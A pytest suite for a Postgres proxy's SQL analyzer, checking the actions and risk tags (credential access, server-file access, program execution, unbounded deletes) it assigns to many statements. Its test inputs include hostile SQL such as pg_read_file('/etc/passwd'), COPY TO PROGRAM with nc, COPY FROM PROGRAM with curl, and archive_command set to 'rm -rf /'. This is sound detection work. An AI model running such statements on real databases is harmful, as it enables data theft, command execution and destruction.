"""SQL → Operations: a table of statements, tricky ones included, with the exact Operations
(action, objects, risks) the policy engine will see, in order."""

from __future__ import annotations

import subprocess
import sys

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from policy.model import Operation
from proxy.postgres.statements import SqlAnalyzer, analyze, is_write

NONE: tuple = ()
DWW = ("delete-without-where",)
UWW = ("update-without-where",)

CASES: list[tuple[str, list[tuple[str, tuple, tuple]]]] = [
    # --- reads
    ("SELECT * FROM t", [("read", ("t",), NONE)]),
    ("select * from Public.Users", [("read", ("public.users",), NONE)]),
    ('SELECT * FROM "Weird"."Tab"', [("read", ("Weird.Tab",), NONE)]),
    ('SELECT U&"\\0074" FROM U&"\\0074"', [("read", ("t",), NONE)]),
    ("SELECT * FROM mydb.public.t", [("read", ("mydb.public.t",), NONE)]),
    ("TABLE secrets", [("read", ("secrets",), NONE)]),
    ("VALUES (1), (2)", [("read", NONE, NONE)]),
    ("SELECT 1", [("read", NONE, NONE)]),
    ("SELECT * FROM a UNION SELECT * FROM b", [("read", ("a", "b"), NONE)]),
    ("SELECT * FROM a JOIN b ON a.id = b.id LEFT JOIN c.d USING (id)", [("read", ("a", "b", "c.d"), NONE)]),
    ("SELECT (SELECT max(x) FROM inner_t) FROM outer_t WHERE EXISTS (SELECT 1 FROM third)",
     [("read", ("inner_t", "outer_t", "third"), NONE)]),
    ("SELECT * FROM LATERAL (SELECT * FROM t) x", [("read", ("t",), NONE)]),
    ("SELECT * FROM generate_series(1, 10)", [("read", NONE, NONE)]),
    ("SELECT * FROM t FOR UPDATE SKIP LOCKED", [("read", ("t",), ("row-lock",)), ("lock", ("t",), ("row-lock",))]),
    ("SELECT * FROM a JOIN b ON true FOR SHARE OF b", [("read", ("a", "b"), ("row-lock",)),
                                                       ("lock", ("b",), ("row-lock",))]),
    ("SHOW search_path", [("read", NONE, NONE)]),
    ("SELECT * FROM pg_catalog.pg_authid", [("read", ("pg_catalog.pg_authid",), ("credential-access",))]),
    ("SELECT usename, passwd FROM pg_shadow", [("read", ("pg_shadow",), ("credential-access",))]),
    # --- CTE scoping: CTE names are not tables, unless a CTE's own body names the real table
    ("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r WHERE n < 5) SELECT * FROM r",
     [("read", NONE, NONE)]),
    ("WITH a AS (SELECT * FROM t1), b AS (SELECT * FROM a JOIN t2 USING (id)) SELECT * FROM b",
     [("read", ("t1", "t2"), NONE)]),
    ("WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets", [("read", ("secrets",), NONE)]),
    ("SELECT * FROM secrets, (WITH secrets AS (SELECT 1) SELECT * FROM secrets) s", [("read", ("secrets",), NONE)]),
    ("WITH x AS (SELECT 1) SELECT * FROM x, (WITH y AS (SELECT 2) SELECT * FROM y) s, x2", [("read", ("x2",), NONE)]),
    ("WITH x AS (SELECT 1) SELECT * FROM public.x", [("read", ("public.x",), NONE)]),
    # --- multi-statement strings, comments, quoting
    ("SELECT 1; DROP TABLE x; TRUNCATE y",
     [("read", NONE, NONE), ("drop", ("x",), ("drop",)), ("truncate", ("y",), ("truncate",))]),
    ("SELECT 1; -- DROP TABLE x", [("read", NONE, NONE)]),
    ("SELECT 1 /* ; DROP TABLE x */", [("read", NONE, NONE)]),
    ("SELECT $$; DROP TABLE x$$", [("read", NONE, NONE)]),
    ("SELECT $tag$ $$; DROP TABLE x; $$ $tag$", [("read", NONE, NONE)]),
    ("SELECT 'a;b'; DELETE FROM \"Users\" WHERE id = 1", [("read", NONE, NONE), ("delete", ("Users",), NONE)]),
    ("SELECT E'\\'; DROP TABLE x; --'", [("read", NONE, NONE)]),
    ("begin; delete from t; commit;",
     [("transaction", NONE, NONE), ("delete", ("t",), DWW), ("transaction", NONE, NONE)]),
    # --- writes and their WHERE clauses
    ("DELETE FROM public.users", [("delete", ("public.users",), DWW)]),
    ("DELETE FROM users WHERE id = 3", [("delete", ("users",), NONE)]),
    ("DELETE FROM users WHERE 1 = 1", [("delete", ("users",), DWW)]),
    ("DELETE FROM users WHERE id = id", [("delete", ("users",), DWW)]),
    ("DELETE FROM users WHERE 1 = 2", [("delete", ("users",), NONE)]),
    ("DELETE FROM users WHERE 'a' = 'a'", [("delete", ("users",), DWW)]),
    ("DELETE FROM users WHERE NOT false", [("delete", ("users",), DWW)]),
    ("DELETE FROM users WHERE true", [("delete", ("users",), DWW)]),
    ("DELETE FROM users WHERE true AND id = 3", [("delete", ("users",), NONE)]),
    ("DELETE FROM users WHERE id = 3 OR true", [("delete", ("users",), DWW)]),
    ("DELETE FROM users WHERE 't'::boolean", [("delete", ("users",), DWW)]),
    ("DELETE FROM users WHERE NULL IS NULL", [("delete", ("users",), DWW)]),
    ("DELETE FROM users WHERE 1 < 2", [("delete", ("users",), DWW)]),
    ("DELETE FROM users WHERE 1.0 = 1", [("delete", ("users",), DWW)]),
    ("DELETE FROM users WHERE CURRENT OF c", [("delete", ("users",), NONE)]),
    ("DELETE FROM users USING orders WHERE users.id = orders.uid",
     [("delete", ("users",), NONE), ("read", ("orders",), NONE)]),
    ("DELETE FROM ONLY t RETURNING *", [("delete", ("t",), DWW)]),
    ("UPDATE t SET x = 1", [("update", ("t",), UWW)]),
    ("UPDATE t SET x = 1 WHERE true OR x > 1", [("update", ("t",), UWW)]),
    ("UPDATE users SET admin = true FROM orders", [("update", ("users",), UWW), ("read", ("orders",), NONE)]),
    ("UPDATE users SET name = 'x' WHERE id IN (SELECT uid FROM bans)",
     [("update", ("users",), NONE), ("read", ("bans",), NONE)]),
    ("UPDATE t SET x = (SELECT max(x) FROM t) WHERE id = 1", [("update", ("t",), NONE), ("read", ("t",), NONE)]),
    ("INSERT INTO t (a) VALUES (1) RETURNING *", [("insert", ("t",), NONE)]),
    ("INSERT INTO audit SELECT * FROM users", [("insert", ("audit",), NONE), ("read", ("users",), NONE)]),
    ("INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING", [("insert", ("t",), NONE)]),
    ("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET x = 1",
     [("insert", ("t",), NONE), ("update", ("t",), NONE)]),
    ("WITH x AS (SELECT 1 AS a) INSERT INTO t SELECT a FROM x", [("insert", ("t",), NONE)]),
    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET x = s.x",
     [("update", ("t",), NONE), ("read", ("s",), NONE)]),
    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (1)",
     [("delete", ("t",), NONE), ("insert", ("t",), NONE), ("read", ("s",), NONE)]),
    ("MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", [("delete", ("t",), DWW), ("read", ("s",), NONE)]),
    ("MERGE INTO t USING (SELECT * FROM src) s ON t.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id)",
     [("insert", ("t",), NONE), ("read", ("src",), NONE)]),
    # --- writes hidden in CTEs
    ("WITH d AS (DELETE FROM s.t RETURNING *) SELECT * FROM d", [("read", NONE, NONE), ("delete", ("s.t",), DWW)]),
    ("WITH u AS (UPDATE accounts SET balance = 0 RETURNING id) INSERT INTO log SELECT id FROM u",
     [("insert", ("log",), NONE), ("update", ("accounts",), UWW)]),
    ("WITH a AS (INSERT INTO t VALUES (1) RETURNING *), b AS (DELETE FROM t2 WHERE id IN (SELECT id FROM a) "
     "RETURNING *) SELECT * FROM b", [("read", NONE, NONE), ("insert", ("t",), NONE), ("delete", ("t2",), NONE)]),
    ("WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d JOIN other USING (id)",
     [("read", ("other",), NONE), ("delete", ("t",), NONE)]),
    # --- EXPLAIN: ANALYZE executes, plain EXPLAIN does not
    ("EXPLAIN SELECT * FROM t", [("explain", ("t",), NONE)]),
    ("EXPLAIN DELETE FROM t", [("explain", ("t",), NONE)]),
    ("EXPLAIN ANALYZE DELETE FROM t", [("delete", ("t",), DWW)]),
    ("EXPLAIN (ANALYZE) UPDATE t SET x = 1", [("update", ("t",), UWW)]),
    ("EXPLAIN (ANALYZE false) DELETE FROM t", [("explain", ("t",), NONE)]),
    ("EXPLAIN (ANALYZE off, VERBOSE) DELETE FROM t", [("explain", ("t",), NONE)]),
    ("EXPLAIN (ANALYZE 0) DELETE FROM t", [("explain", ("t",), NONE)]),
    ("EXPLAIN (FORMAT JSON, ANALYZE on) DELETE FROM t", [("delete", ("t",), DWW)]),
    ("EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d",
     [("read", NONE, NONE), ("delete", ("t",), DWW)]),
    ("EXPLAIN ANALYZE CREATE TABLE x AS SELECT * FROM y", [("create", ("x",), NONE), ("read", ("y",), NONE)]),
    ("EXPLAIN ANALYZE EXECUTE nothere", [("other", NONE, ("opaque-code",))]),
    # --- opaque code
    ("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", [("do", NONE, ("opaque-code",))]),
    ("DO LANGUAGE plpython3u $$import os; os.system('id')$$", [("do", NONE, ("opaque-code", "program-execution"))]),
    # --- functions that run SQL, touch files, control the server
    ("SELECT dblink_exec('dbname=postgres', 'DELETE FROM users')",
     [("read", NONE, ("network-access", "dynamic-sql")), ("delete", ("users",), DWW)]),
    ("SELECT * FROM dblink('dbname=x', 'SELECT * FROM secrets') AS t(a text)",
     [("read", NONE, ("network-access", "dynamic-sql")), ("read", ("secrets",), NONE)]),
    ("SELECT dblink_exec('conn', 'DROP TABLE t', false)",
     [("read", NONE, ("network-access", "dynamic-sql")), ("drop", ("t",), ("drop",))]),
    ("SELECT query_to_xml('DELETE FROM t RETURNING *', true, false, '')",
     [("read", NONE, ("dynamic-sql",)), ("delete", ("t",), DWW)]),
    ("SELECT query_to_xml(q, true, false, '') FROM queries", [("read", ("queries",), ("dynamic-sql", "opaque-code"))]),
    ("SELECT query_to_xml('not sql at all', true, false, '')",
     [("read", NONE, ("dynamic-sql", "opaque-code")), ("unparseable", NONE, ("unparseable",))]),
    ("SELECT * FROM crosstab('SELECT a, b, c FROM secrets') AS ct(a text, b int)",
     [("read", NONE, ("dynamic-sql",)), ("read", ("secrets",), NONE)]),
    ("SELECT table_to_xml('secrets', true, false, '')", [("read", ("secrets",), NONE)]),
    ("SELECT database_to_xml(true, false, '')", [("read", ("<database_to_xml>",), NONE)]),
    ("SELECT pg_read_file('/etc/passwd')", [("read", NONE, ("server-file-access",))]),
    ("SELECT pg_catalog.pg_ls_dir('.')", [("read", NONE, ("server-file-access",))]),
    ("SELECT PG_READ_BINARY_FILE('x')", [("read", NONE, ("server-file-access",))]),
    ("SELECT lo_import('/etc/passwd')", [("read", NONE, ("server-file-access", "large-object"))]),
    ("SELECT lo_export(1234, '/tmp/x')", [("read", NONE, ("server-file-access", "large-object"))]),
    ("SELECT * FROM t WHERE x = (SELECT pg_read_file('/etc/passwd'))", [("read", ("t",), ("server-file-access",))]),
    ("SELECT pg_terminate_backend(123)", [("read", NONE, ("server-control",))]),
    ("SELECT set_config('role', 'postgres', false)", [("read", NONE, ("set-config", "privilege-change"))]),
    ("SELECT set_config('search_path', 'x', false)", [("read", NONE, ("set-config",))]),
    # --- COPY
    ("COPY users TO '/tmp/users.csv'", [("read", ("users",), ("server-file-access",)),
                                        ("copy", ("users",), ("server-file-access",))]),
    ("COPY users FROM '/tmp/in.csv' WITH (FORMAT csv)", [("insert", ("users",), ("server-file-access",))]),
    ("COPY users FROM PROGRAM 'curl http://x'", [("insert", ("users",), ("program-execution", "server-file-access"))]),
    ("COPY users TO PROGRAM 'nc host 1'", [("read", ("users",), ("program-execution", "server-file-access")),
                                           ("copy", ("users",), ("program-execution", "server-file-access"))]),
    ("COPY users FROM STDIN", [("insert", ("users",), NONE)]),
    ("COPY users TO STDOUT WITH (FORMAT binary)", [("read", ("users",), NONE)]),
    ("COPY pg_authid TO STDOUT", [("read", ("pg_authid",), ("credential-access",))]),
    ("COPY users (id, email) FROM STDIN WHERE id > 0", [("insert", ("users",), NONE)]),
    ("COPY users FROM STDIN WHERE wipe()", [("insert", ("users",), NONE)]),
    ("COPY (SELECT * FROM secrets) TO STDOUT", [("read", ("secrets",), NONE), ("read", ("secrets",), NONE)]),
    ("COPY (DELETE FROM t RETURNING *) TO STDOUT", [("read", ("t",), NONE), ("delete", ("t",), DWW)]),
    # --- procedures, settings, transactions
    ("CALL do_things(1, (SELECT max(id) FROM t))", [("call", ("do_things",), NONE), ("read", ("t",), NONE)]),
    ("SET search_path = evil, public", [("set", NONE, NONE)]),
    ("SET LOCAL ROLE admin", [("set", NONE, ("privilege-change",))]),
    ("SET SESSION AUTHORIZATION postgres", [("set", NONE, ("privilege-change",))]),
    ("RESET ROLE", [("set", NONE, NONE)]),
    ("SET session_preload_libraries = 'evil'", [("set", NONE, ("program-execution",))]),
    ("BEGIN", [("transaction", NONE, NONE)]),
    ("START TRANSACTION READ ONLY", [("transaction", NONE, NONE)]),
    ("COMMIT", [("transaction", NONE, NONE)]),
    ("ROLLBACK TO SAVEPOINT a", [("transaction", NONE, NONE)]),
    ("PREPARE TRANSACTION 'x'", [("transaction", NONE, NONE)]),
    ("SET CONSTRAINTS ALL DEFERRED", [("transaction", NONE, NONE)]),
    # --- maintenance and misc
    ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", [("lock", ("t",), NONE)]),
    ("VACUUM FULL t", [("other", ("t",), NONE)]),
    ("ANALYZE t", [("other", ("t",), NONE)]),
    ("REINDEX TABLE t", [("other", ("t",), NONE)]),
    ("REFRESH MATERIALIZED VIEW mv", [("other", ("mv",), NONE)]),
    ("CHECKPOINT", [("other", NONE, NONE)]),
    ("DISCARD ALL", [("other", NONE, ("read-write",))]),
    ("DISCARD TEMP", [("other", NONE, NONE)]),
    ("LOAD 'plpgsql'", [("other", ("plpgsql",), ("program-execution", "server-file-access"))]),
    ("ALTER SYSTEM SET archive_command = 'rm -rf /'", [("alter", NONE, ("server-config", "program-execution"))]),
    ("ALTER SYSTEM SET work_mem = '1GB'", [("alter", NONE, ("server-config",))]),
    ("DECLARE c CURSOR FOR SELECT * FROM secrets", [("read", ("secrets",), NONE)]),
    ("FETCH 10 FROM c", [("read", NONE, NONE)]),
    # --- DDL
    ("CREATE TABLE s.t (id int primary key)", [("create", ("s.t",), NONE)]),
    ("CREATE TABLE x (a int REFERENCES y)", [("create", ("x", "y"), NONE)]),
    ("CREATE TEMP TABLE tt AS SELECT * FROM secrets", [("create", ("tt",), NONE), ("read", ("secrets",), NONE)]),
    ("SELECT * INTO newt FROM old", [("create", ("newt",), NONE), ("read", ("old",), NONE)]),
    ("CREATE VIEW v AS SELECT * FROM secrets", [("create", ("v",), NONE), ("read", ("secrets",), NONE)]),
    ("CREATE MATERIALIZED VIEW mv AS SELECT 1", [("create", ("mv",), NONE)]),
    ("CREATE INDEX CONCURRENTLY i ON t (a)", [("create", ("t", "i"), NONE)]),
    ("CREATE SCHEMA s CREATE TABLE q (a int)", [("create", ("s",), NONE), ("create", ("q",), NONE)]),
    ("CREATE EXTENSION dblink", [("create", ("dblink",), ("network-access", "dynamic-sql"))]),
    ("CREATE EXTENSION IF NOT EXISTS pgcrypto", [("create", ("pgcrypto",), NONE)]),
    ("CREATE EXTENSION plpython3u", [("create", ("plpython3u",), ("program-execution",))]),
    ("CREATE LANGUAGE plperlu", [("create", ("plperlu",), ("program-execution",))]),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$BEGIN RETURN 1; END$$", [("create", ("f",), ("opaque-code",))]),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE plpython3u AS $$import os$$",
     [("create", ("f",), ("program-execution", "opaque-code"))]),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'libc.so', 'system'",
     [("create", ("f",), ("program-execution", "opaque-code"))]),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END", [("create", ("f",), DWW)]),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", [("create", ("f",), NONE)]),
    ("CREATE PROCEDURE p() LANGUAGE sql AS $$ TRUNCATE t $$", [("create", ("p",), ("truncate",))]),
    ("CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM t2", [("create", ("t",), DWW)]),
    ("CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", [("create", ("t", "tr", "f"), NONE)]),
    ("ALTER TABLE t ADD COLUMN c int", [("alter", ("t",), NONE)]),
    ("ALTER TABLE t DROP COLUMN c", [("alter", ("t",), ("drop",))]),
    ("ALTER TABLE t RENAME COLUMN a TO b", [("alter", ("t",), NONE)]),
    ("ALTER TABLE t RENAME TO u", [("alter", ("t",), NONE)]),
    ("COMMENT ON TABLE t IS 'x'", [("alter", ("t",), NONE)]),
    ("DROP TABLE IF EXISTS a, s.b CASCADE", [("drop", ("a", "s.b"), ("drop",))]),
    ("DROP SCHEMA s CASCADE", [("drop", ("s",), ("drop",))]),
    ("DROP DATABASE prod", [("drop", ("prod",), ("drop",))]),
    ("DROP INDEX i", [("drop", ("i",), ("drop",))]),
    ("DROP FUNCTION f(int)", [("drop", ("f",), ("drop",))]),
    ("DROP EXTENSION dblink", [("drop", ("dblink",), ("drop",))]),
    ("TRUNCATE a, s.b RESTART IDENTITY", [("truncate", ("a", "s.b"), ("truncate",))]),
    ("TRUNCATE TABLE ONLY a", [("truncate", ("a",), ("truncate",))]),
    # --- privileges
    ("GRANT SELECT, INSERT ON t, s.u TO bob", [("grant", ("t", "s.u"), ("privilege-change",))]),
    ("GRANT ALL ON ALL TABLES IN SCHEMA public TO bob", [("grant", ("public.*",), ("privilege-change",))]),
    ("REVOKE UPDATE ON t FROM PUBLIC", [("revoke", ("t",), ("privilege-change",))]),
    ("GRANT admin TO bob", [("grant", ("admin",), ("privilege-change",))]),
    ("REVOKE admin FROM bob", [("revoke", ("admin",), ("privilege-change",))]),
    ("GRANT pg_read_server_files TO bob", [("grant", ("pg_read_server_files",),
                                             ("privilege-change", "server-file-access"))]),
    ("GRANT pg_execute_server_program TO bob", [("grant", ("pg_execute_server_program",),
                                                  ("privilege-change", "program-execution"))]),
    ("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", [("grant", NONE, ("privilege-change",))]),
    ("GRANT EXECUTE ON FUNCTION f() TO bob", [("grant", ("f",), ("privilege-change",))]),
    ("CREATE ROLE r SUPERUSER LOGIN", [("create", ("r",), ("privilege-change",))]),
    ("ALTER ROLE bob SUPERUSER", [("alter", ("bob",), ("privilege-change",))]),
    ("DROP ROLE bob", [("drop", ("bob",), ("drop", "privilege-change"))]),
    ("DROP OWNED BY bob", [("drop", ("bob",), ("drop", "privilege-change"))]),
    ("REASSIGN OWNED BY bob TO alice", [("alter", ("bob",), ("privilege-change",))]),
    ("CREATE POLICY p ON t USING (true)", [("create", ("t",), ("privilege-change",))]),
    ("ALTER TABLE t DISABLE ROW LEVEL SECURITY", [("alter", ("t",), ("privilege-change",))]),
    ("ALTER TABLE t OWNER TO bob", [("alter", ("t",), ("privilege-change",))]),
    # --- reaching other servers and the filesystem through DDL
    ("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x')", [("create", ("s",), ("network-access",))]),
    ("CREATE SUBSCRIPTION sub CONNECTION 'host=x' PUBLICATION p", [("create", ("sub",), ("network-access",))]),
    ("IMPORT FOREIGN SCHEMA public FROM SERVER s INTO local", [("create", NONE, ("network-access",))]),
    ("CREATE TABLESPACE ts LOCATION '/data'", [("create", ("ts",), ("server-file-access",))]),
    # --- unparseable: refused, never guessed
    ("selec 1", [("unparseable", NONE, ("unparseable",))]),
    ("SELECT 1; DELETE FROM", [("unparseable", NONE, ("unparseable",))]),
    ("DROP TABLE t; SELEC 1", [("unparseable", NONE, ("unparseable",))]),
    ("SELECT '\udcff'", [("unparseable", NONE, ("unparseable",))]),
]


def _shape(ops: list[Operation]) -> list[tuple[str, tuple, tuple]]:
    return [(o.action, o.objects, o.risks) for o in ops]


@pytest.mark.parametrize("sql,expected", CASES, ids=[c[0][:60] for c in CASES])
def test_statement_table(sql, expected):
    ops = analyze(sql)
    assert _shape(ops) == expected
    assert all(o.protocol == "postgres" for o in ops)


def test_case_table_is_large():
    assert len(CASES) >= 150


def test_empty_and_comment_only_text_has_no_operations():
    assert analyze("") == []
    assert analyze("  -- nothing\n /* at all */ ;;") == []


def test_statement_index_and_node_attributes():
    ops = analyze("SELECT 1; WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d")
    assert [o.attributes["statement"] for o in ops] == ["0", "1", "1"]
    assert [o.attributes["node"] for o in ops] == ["SelectStmt", "SelectStmt", "DeleteStmt"]
    assert ops[2].attributes["via"] == "cte"
    assert "via" not in ops[0].attributes


def test_via_attributes():
    assert analyze("EXPLAIN ANALYZE DELETE FROM t")[0].attributes["via"] == "explain-analyze"
    assert analyze("EXPLAIN ANALYZE DELETE FROM t")[0].attributes["explain"] == "analyze"
    assert analyze("EXPLAIN DELETE FROM t")[0].attributes["explain"] == "plan"
    assert analyze("COPY (DELETE FROM t RETURNING *) TO STDOUT")[1].attributes["via"] == "copy"
    assert analyze("SELECT dblink_exec('c', 'DELETE FROM t')")[1].attributes["via"] == "function:dblink_exec"
    assert analyze("INSERT INTO t SELECT * FROM s")[1].attributes["via"] == "subquery"
    assert analyze("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET x = 1")[1].attributes["via"] == "on-conflict"


def test_functions_attribute_lists_calls_as_written():
    (op,) = analyze("SELECT lower(name), public.my_func(1), now() FROM t")
    assert op.attributes["functions"] == "lower,public.my_func,now"
    (op,) = analyze("EXPLAIN SELECT evil_immutable()")
    assert op.attributes["functions"] == "evil_immutable"


def test_other_attributes():
    assert analyze("SET search_path = x")[0].attributes["setting"] == "search_path"
    assert analyze("BEGIN")[0].attributes["transaction"] == "begin"
    assert analyze("DROP TABLE t CASCADE")[0].attributes == {"statement": "0", "node": "DropStmt",
                                                             "object_type": "table", "cascade": "1"}
    assert analyze("SELECT * FROM t FOR UPDATE")[0].attributes["lock"] == "forupdate"
    assert analyze("DO $$ $$")[0].attributes["language"] == "plpgsql"
    assert analyze("GRANT SELECT ON t TO bob, alice")[0].attributes["grantees"] == "bob,alice"
    assert analyze("CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'")[0] \
        .attributes["security_definer"] == "1"
    assert analyze("COPY t TO PROGRAM 'x'")[0].attributes["direction"] == "to"
    assert analyze("DECLARE c CURSOR FOR SELECT 1")[0].attributes["cursor"] == "c"


def test_unparseable_carries_the_error():
    (op,) = analyze("selec 1")
    assert "syntax error" in op.attributes["error"]
    assert op.summary == "selec 1"


def test_summary_is_the_statement_text_masked():
    ops = analyze("SELECT 1;  CREATE ROLE r LOGIN PASSWORD 'hunter2'  ; SELECT 'bob@example.com'")
    assert ops[0].summary == "SELECT 1"
    assert ops[1].summary == "CREATE ROLE r LOGIN PASSWORD '[masked:sql_password]'"
    assert ops[2].summary == "SELECT '[masked:email]'"
    (op,) = analyze("ALTER USER bob WITH PASSWORD 'x'")
    assert "'x'" not in op.summary


def test_summary_offsets_are_characters_not_bytes():
    ops = analyze("SELECT 'ééé'; DELETE FROM t")
    assert ops[1].summary == "DELETE FROM t"


def test_summary_is_truncated():
    (op,) = analyze("SELECT " + " + ".join(["1"] * 1000))
    assert len(op.summary) == 1000 and op.summary.endswith("…")


def test_prepared_statements_are_judged_at_execute():
    a = SqlAnalyzer()
    ops = a.analyze("PREPARE p(int) AS DELETE FROM t")
    assert _shape(ops) == [("delete", ("t",), DWW)]
    assert ops[0].attributes["via"] == "prepare" and ops[0].attributes["prepared"] == "p"
    ops = a.analyze("EXECUTE p(1)")
    assert _shape(ops) == [("delete", ("t",), DWW)]
    assert ops[0].attributes["via"] == "execute" and "DELETE FROM t" in ops[0].summary


def test_prepare_and_execute_in_one_string():
    assert _shape(SqlAnalyzer().analyze("PREPARE q AS DELETE FROM t; EXECUTE q")) == [
        ("delete", ("t",), DWW), ("delete", ("t",), DWW)]


def test_only_plannable_statements_can_be_prepared():
    assert _shape(analyze("PREPARE q AS TRUNCATE t")) == [("unparseable", NONE, ("unparseable",))]


def test_create_table_as_execute_runs_the_prepared_statement():
    a = SqlAnalyzer()
    a.analyze("PREPARE p AS WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d")
    ops = a.analyze("CREATE TABLE x AS EXECUTE p")
    assert _shape(ops) == [("create", ("x",), NONE), ("read", NONE, NONE), ("delete", ("t",), DWW)]
    assert _shape(analyze("CREATE TABLE x AS EXECUTE unknown")) == [
        ("create", ("x",), NONE), ("other", NONE, ("opaque-code",))]


def test_unknown_prepared_statement_is_opaque():
    (op,) = SqlAnalyzer().analyze("EXECUTE nothere")
    assert (op.action, op.risks, op.attributes["prepared"]) == ("other", ("opaque-code",), "nothere")


def test_reused_name_keeps_every_candidate():
    """The proxy cannot see whether DEALLOCATE or a second PREPARE succeeded on the server, so
    EXECUTE is judged against everything that name may mean."""
    a = SqlAnalyzer()
    a.analyze("PREPARE p AS UPDATE t SET x = 1")
    a.analyze("DEALLOCATE p")
    a.analyze("PREPARE p AS SELECT 1")
    assert _shape(a.analyze("EXECUTE p")) == [("update", ("t",), UWW), ("read", NONE, NONE)]


def test_protocol_level_parse_shares_the_namespace():
    a = SqlAnalyzer()
    assert _shape(a.register_prepared("s1", "UPDATE t SET x = 1")) == [("update", ("t",), UWW)]
    assert _shape(a.analyze("EXECUTE s1")) == [("update", ("t",), UWW)]
    a.register_prepared("", "DROP TABLE x")  # the unnamed statement cannot be EXECUTEd from SQL
    assert "" not in a.prepared


def test_execute_parameters_are_scanned():
    a = SqlAnalyzer()
    a.analyze("PREPARE p(text) AS SELECT $1")
    ops = a.analyze("EXECUTE p(pg_read_file('/etc/passwd'))")
    assert _shape(ops) == [("read", NONE, NONE), ("other", NONE, ("server-file-access",))]


def test_deep_nesting_is_refused_not_crashed():
    sql = "SELECT " + "(" * 5000 + "1" + ")" * 5000
    ops = analyze(sql)
    assert len(ops) == 1 and ops[0].action in ("unparseable", "read")


def test_left_deep_expressions_do_not_crash_the_process():
    """pglast recurses in C per tree level; 50k levels overflow an 8 MiB stack (SIGSEGV). Run in
    a child so a regression shows up as a failed test, not a dead test run."""
    code = ("from proxy.postgres.statements import analyze\n"
            "ops = analyze('SELECT 1' + ' + 1' * 50000)\n"
            "assert [o.action for o in ops] == ['read'], ops\n"
            "ops = analyze(' UNION '.join(['SELECT * FROM t'] * 25000))\n"
            "assert [(o.action, o.objects) for o in ops] == [('read', ('t',))], ops\n")
    r = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr[-2000:]


def test_text_over_the_limit_is_refused():
    (op,) = analyze("SELECT 1 " + " " * 100, max_length=50)
    assert op.action == "unparseable" and "longer than 50" in op.attributes["error"]


def test_long_text_is_analyzed_on_the_big_stack_thread():
    sql = "INSERT INTO t VALUES " + ",".join(f"({i}, 'row {i}')" for i in range(3000)) + "; DELETE FROM t"
    assert len(sql) > 16 * 1024
    assert _shape(analyze(sql)) == [("insert", ("t",), NONE), ("delete", ("t",), DWW)]


def test_dynamic_sql_recursion_is_bounded():
    sql = "SELECT 1"
    for _ in range(12):
        sql = "SELECT query_to_xml('" + sql.replace("'", "''") + "', true, false, '')"
    ops = analyze(sql)
    assert any(o.action == "unparseable" for o in ops)


def test_is_write():
    assert is_write(analyze("DELETE FROM t WHERE id = 1")[0])
    assert not is_write(analyze("SELECT 1")[0])
    assert is_write(analyze("selec")[0])


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_fuzz_analyze_never_raises(text):
    for op in analyze(text):
        assert isinstance(op, Operation) and op.protocol == "postgres"


_FRAGMENTS = ["SELECT", "DELETE FROM t", "WITH d AS (", ")", "UPDATE t SET x=1", "WHERE", "1=1", ";", "'", "$$",
              "--", "/*", "*/", "EXPLAIN ANALYZE", "dblink('c', 'DROP TABLE x')", "DO", "COPY t TO '/f'", "(", ","]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_FRAGMENTS), max_size=12))
def test_fuzz_sql_like_text_never_raises(parts):
    for op in analyze(" ".join(parts)):
        assert op.action
